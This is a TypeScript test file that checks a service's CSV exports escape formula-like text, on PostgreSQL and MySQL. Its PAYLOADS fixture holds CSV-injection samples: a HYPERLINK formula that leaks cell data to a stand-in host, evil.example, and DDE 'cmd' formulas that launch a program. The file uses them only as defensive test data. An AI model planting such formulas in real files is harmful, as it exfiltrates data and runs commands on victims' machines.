// CSV injection through runtime exports (issue 23, item 10): a runtime writer stores text that a
// spreadsheet runs as a formula (`=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…`, tab, CR); whoever exports
// the table as CSV and opens it must see the text, not run it. Text cells get a `'` in front; numbers
// (negative ones too), booleans and dates are left alone; `csvFormulaEscape=false` gives the values as
// stored; the stored rows are never changed. PostgreSQL's COPY path and the cursor path (a filtered
// export, and MySQL) write the same bytes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SchemaConfig } from '../../../src/contract.ts';
import { parseCsv } from '../../helpers/csv.ts';
import { waitForLatestJob } from '../../helpers/generation.ts';
import { mysqlTarget } from '../../helpers/mysql.ts';
import { startTestService, type TestService } from '../../helpers/service.ts';
import type { Kind } from '../../helpers/target-sql.ts';

const mysqlUrl = await mysqlTarget();
const KINDS: Kind[] = mysqlUrl ? ['postgres', 'mysql'] : ['postgres'];

const config: SchemaConfig = {
  formatVersion: 1,
  generationDefaults: { rowCount: 5, seed: 'formulas' },
  entities: [
    {
      id: 'contacts',
      primaryKey: ['id'],
      fields: [
        { id: 'id', type: 'integer', min: 1, max: 1000 },
        { id: 'name', type: 'string', maxLength: 200 },
        { id: 'note', type: 'text', nullable: true },
        { id: 'tier', type: 'enum', values: ['gold', '-silver', '@bronze'] },
        { id: 'balance', type: 'integer', min: -1000, max: -1 },
        { id: 'active', type: 'boolean' },
      ],
    },
  ],
} as SchemaConfig;

/** What the attacker writes, by id: each would run as a formula in a spreadsheet. */
const PAYLOADS: Record<number, { name: string; note: string; tier: string }> = {
  101: { name: '=HYPERLINK("https://evil.example/?d="&A1,"Click me")', note: '@SUM(1+1)*cmd|\' /C calc\'!A0', tier: '-silver' },
  102: { name: '+1+cmd|\' /C calc\'!A0', note: '\t=1+1', tier: '@bronze' },
  103: { name: '-2+3', note: '\r=1+1', tier: 'gold' },
  104: { name: 'plain, "quoted" = fine', note: 'a=b', tier: 'gold' },
};

let t: TestService;
let projectId: string;
let versionId: string;
beforeAll(async () => {
  t = await startTestService('csv_formula', { targetUrls: { mysql: mysqlUrl } });
  const api = t.client(t.teamKey);
  projectId = (await api.POST('/public/v1/projects', { body: { name: 'Formulas' } })).data!.id;
  const schema = (await api.POST('/public/v1/projects/{projectId}/schemas', { params: { path: { projectId } }, body: { name: 'Contacts', initialVersion: { schema: config } } })).data!;
  versionId = (await api.GET('/public/v1/projects/{projectId}/schemas/{schemaId}/versions', { params: { path: { projectId, schemaId: schema.id } } })).data![0]!.id;
}, 60_000);
afterAll(() => t?.stop());

for (const kind of KINDS) {
  describe(`${kind}: CSV exports of formula-like text`, () => {
    let base: string;
    let key: string;
    const get = (path: string) => fetch(`${base}${path}`, { headers: { 'x-api-key': key } });

    beforeAll(async () => {
      const api = t.client(t.teamKey);
      const sourceId = (await api.POST('/public/v1/projects/{projectId}/sources', {
        params: { path: { projectId } },
        body: { name: `Contacts ${kind}`, kind, schemaVersionId: versionId },
      })).data!.id;
      await waitForLatestJob(t, projectId, sourceId);
      key = (await api.POST('/public/v1/projects/{projectId}/sources/{sourceId}/api-keys', { params: { path: { projectId, sourceId } }, body: {} })).data!.key;
      base = `${t.url}/runtime/${sourceId}`;
      // The attack: a runtime writer plants formulas in text fields.
      for (const [id, payload] of Object.entries(PAYLOADS)) {
        const created = await fetch(`${base}/contacts`, {
          method: 'POST',
          headers: { 'x-api-key': key, 'content-type': 'application/json' },
          body: JSON.stringify({ id: Number(id), ...payload, balance: -5, active: true }),
        });
        expect(created.status, await created.clone().text()).toBe(201);
      }
    }, 60_000);

    /** The export's records by id, each as {field: cell text}. */
    async function exported(query: string): Promise<{ text: string; rows: Map<number, Record<string, string>> }> {
      const response = await get(`/contacts?format=csv&sort=id${query}`);
      expect(response.status).toBe(200);
      const text = await response.text();
      const [header, ...records] = parseCsv(text);
      const names = header!.map((field) => field.value);
      const rows = new Map(records.map((record) => [Number(record[0]!.value), Object.fromEntries(names.map((name, index) => [name, record[index]!.value]))]));
      return { text, rows };
    }

    // No filter: PostgreSQL writes it with COPY; a filter sends it through the cursor path.
    for (const [path, query] of [['unfiltered', ''], ['filtered', '&filters[balance][$lt]=0']] as const) {
      it(`puts a ' before every formula-like text cell (${path}), and leaves negative numbers as numbers`, async () => {
        const { rows } = await exported(query);
        for (const [id, payload] of Object.entries(PAYLOADS)) {
          const row = rows.get(Number(id))!;
          for (const field of ['name', 'note', 'tier'] as const) {
            const value = payload[field];
            expect(row[field], `${id}.${field}`).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
          }
          expect(row.balance).toBe('-5');
          expect(row.active).toBe('true');
        }
        // Every cell of the file that a spreadsheet would evaluate is a number (generated balances too).
        for (const row of rows.values()) {
          for (const [field, cell] of Object.entries(row)) {
            if (/^[=+\-@\t\r]/.test(cell)) expect(`${field}=${cell}`).toMatch(/^balance=-\d+$/);
          }
        }
      });
    }

    it('writes the same bytes on the COPY and the cursor paths', async () => {
      // id ≥ 0 selects every row but takes a parameter: the cursor path on PostgreSQL too.
      expect((await exported('&filters[id][$gte]=0')).text).toBe((await exported('')).text);
    });

    it('gives the values as stored with csvFormulaEscape=false, and never changes the stored rows', async () => {
      const { rows } = await exported('&csvFormulaEscape=false');
      for (const [id, payload] of Object.entries(PAYLOADS)) expect(rows.get(Number(id))).toMatchObject({ ...payload, balance: '-5' });
      for (const [id, payload] of Object.entries(PAYLOADS)) {
        const row = (await (await get(`/contacts/${id}`)).json()) as Record<string, unknown>;
        expect(row).toMatchObject({ ...payload, balance: -5 });
      }
      // JSON Lines are data, not a spreadsheet: never escaped.
      const lines = (await (await get('/contacts?format=jsonl&filters[id][$eq]=101')).text()).trim();
      expect(JSON.parse(lines)).toMatchObject(PAYLOADS[101]!);
    });

    it('answers 400 naming the parameter for a value other than true or false', async () => {
      const response = await get('/contacts?format=csv&csvFormulaEscape=no');
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({ error: 'Malformed query parameter "csvFormulaEscape": use csvFormulaEscape=true or csvFormulaEscape=false' });
    });
  });
}
